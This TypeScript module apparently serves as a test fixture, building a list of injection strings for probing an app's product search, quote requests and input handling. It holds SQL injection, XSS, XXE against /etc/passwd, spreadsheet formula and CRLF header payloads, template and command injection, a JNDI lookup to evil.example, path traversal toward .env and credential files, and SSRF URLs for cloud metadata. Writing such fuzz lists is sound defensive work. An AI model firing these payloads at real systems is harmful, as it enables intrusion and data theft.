const combine = (heads: readonly string[], tails: readonly string[]) =>
  heads.flatMap((head) => tails.map((tail) => head + tail));

/** Splits a list at three or more spaces, or at a line break. */
const splitList = (text: string) => text.trim().split(/\s{3,}|\n/);

const sql = [
  ...combine(
    ["'", '"', "`", "')", "'))", "1", "\\'"],
    [" OR 1=1 --", "; DROP TABLE products; --", " UNION SELECT passwordHash FROM administrators --"],
  ),
  ...splitList(`
'||(SELECT secret FROM administrators)||'   ?1   :name   $1   @p   /*   */   --   ;   %   _   %_%
' AND randomblob(100000000) --   x' COLLATE nocase   ATTACH DATABASE 'x' AS y   json('[')   char(0)`),
];

const fts = [
  ...["", "a\0b", "\0*", '"\0"'],
  ...splitList(`
AND   OR   NOT   NEAR   bolt AND   OR bolt   NOT bolt   bolt NOT   a AND OR b   NEAR(a b, 1)   NEAR(   name:bolt
name : *   {name part}: x   -name : x   ^bolt   bolt*   *   **   "   ""   "a   a"b   "a" "   ""*   (   )   ((a)
a + b   a+   +   -   bolt -   rowid:1   rank   product_search   product_search MATCH 'a'   a:b:c   {   }   ^   a^b`),
];

const html = splitList(String.raw`
<script>alert(1)</script>   </script><script>alert(1)</script>   <img src=x onerror=alert(1)>   <!--   -->
"><svg onload=alert(1)>   ' onmouseover='alert(1)   </title><script>   </textarea>   <![CDATA[   ]]>
javascript:alert(1)   JaVaScRiPt:alert(1)   data:text/html,<script>alert(1)</script>   vbscript:x   &lt;b&gt;   &#0;
&#x110000;   &amp;amp;   &notanentity;   <a href=//evil.example>x   <?xml version='1.0'?>   <x:y xmlns:x='z'/>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>   \u003cb\u003e   %3Cscript%3E   java&#9;script:alert(1)`);

/** Formulas for spreadsheets, line breaks for headers, mail and logs, and markers of quote requests. */
const formulasAndLineBreaks = [
  ...combine(
    ["=", "+", "-", "@", "\t=", "\r=", ";=", '"='],
    ["cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example","x")', "1+1"],
  ),
  ...combine(
    ["\r\n", "\n", "\r", "%0d%0a", "\u560d\u560a", "\u2028", "\u0085", "\v", "\\r\\n"],
    ["Set-Cookie: a=b", "Location: https://evil.example", "Bcc: all@evil.example", '{"level":"error"}'],
  ),
  ...["\r\n.\r\n", "\u001b[2J\u001b[31mred", "\u0007", "a\bb", '","b', "a;b;c", "a,b\n1,2", '"a""b"'],
  ...[
    "--- Quote request details ---",
    "Quote Request: ",
    "Quote Request: Quote Request: x",
    "general",
    "quote",
  ],
  "\n\n--- Quote request details ---\nPhone: 1\nCompany: x\nSpecific Requirements: y",
];

const templates = splitList(String.raw`
{{7*7}}   #{7*7}   <%= 7*7 %>   {%raw%}   [[7*7]]   @(7*7)   *{7*7}   ~{7*7}   {0}   %s%n%x   $(id)   | id   && id
{{constructor.constructor('return 1')()}}   ; sleep 9   $&   $1   $'   $$   $<name>   \1   \u0041   \x00   \   \\
\'   \"   %d%i   (a+)+$   [   (?   ^$   a{99999}   (?=   .*.*.*=   [[:alpha:]]   **/*   ~   !   #   &   |`);
const dollars = ["{7*7}", "{jndi:ldap://evil.example/a}", "`", "{`id`}"].map((rest) => `$${rest}`);

const paths = [
  ...combine(["../", "..\\", "..%2f", "%2e%2e/", "....//", "..;/"], ["etc/passwd", "../../wrangler.toml"]),
  ...splitList(String.raw`
/   //   /.   /..   C:\Windows\win.ini   \\evil.example\x   file:///etc/passwd   /dev/null   CON   NUL.txt   a/b
a%00.png   .env   .git/config   /images/../../x   /ok   /ok?a=b#c   /a b   /%2e%2e`),
];

const urls = splitList(String.raw`
http://169.254.169.254/latest/meta-data/   http://[::1]/   http://0x7f000001/   http://localhost:8787/api   https://
https://x   https://x.y   https://a@b.example/   https://evil.example\@us.example/   //evil.example   /\evil.example
https:/evil.example   https:evil.example   ftp://x.example/   gopher://x.example/_   blob:x
https://xn--e1awd7f.example/   https://%65vil.example/   https://x.example:99999/   mailto:a@b.example`);

const mailAddresses = [
  ...["a@b.example\r\nBcc: c@d.example", " a@b.example ", "ä@ö.example", `${"a".repeat(300)}@b.example`],
  ...[`${"a".repeat(64)}@${"b.".repeat(90)}example`, `a@${"b".repeat(64)}.example`],
  ...splitList(`
a@b.example   A.B+c@Example.COM   a@b   @b.example   a@@b.example   "a b"@c.example   a@[127.0.0.1]
a@b.example,c@d.example   <a@b.example>   a@b.example>   a@b..example   .a@b.example   a@-b.example
a'@b.example   a/*@b.example   $@b.example   a@b.example;`),
];

export const injectionStrings: readonly string[] = [
  ...[
    ...sql,
    ...fts,
    ...html,
    ...formulasAndLineBreaks,
    ...templates,
    ...dollars,
    ...paths,
    ...urls,
    ...mailAddresses,
  ],
];
